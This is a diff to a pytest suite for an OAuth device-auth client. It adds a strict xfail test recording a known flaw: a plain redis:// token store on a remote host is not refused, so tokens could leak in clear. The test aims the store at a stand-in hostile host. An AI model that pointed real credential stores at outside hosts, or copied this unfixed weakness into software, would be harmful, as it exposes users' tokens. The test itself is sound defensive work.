@@ -1019,3 +1019,19 @@ def test_no_exception_in_the_whole_chain_holds_an_echoed_secret(error: str) -> N
         OAuthClient(CLIENT_ID, timeout=3).refresh(issuer.url + "/token", REFRESH)
     for link in whole_chain(caught.value):
         assert_no_secret(str(link) + repr(link) + repr(getattr(link, "__dict__", {})), REFRESH)
+
+
+# -- a token store over the network ------------------------------------------------------------------------------
+
+
+@pytest.mark.usefixtures("_no_offline_token")
+@pytest.mark.xfail(
+    strict=True,
+    reason="VULN: a plain redis:// store URL on a remote host (DEVICEAUTH_CACHE=redis://...) is not refused, "
+    "so every token would travel to it in clear (on seams the URL even fails with ModuleNotFoundError)",
+)
+def test_a_plain_redis_store_on_a_remote_host_is_refused(capture: HostileServer) -> None:
+    with pytest.raises((ValueError, TypeError, DeviceAuthError)):
+        auth = DeviceAuth(ISSUER, CLIENT_ID, cache=f"redis://{EVIL}:{capture.port}/0", interactive=False)
+        auth.get_token()
+    assert capture.received == 0
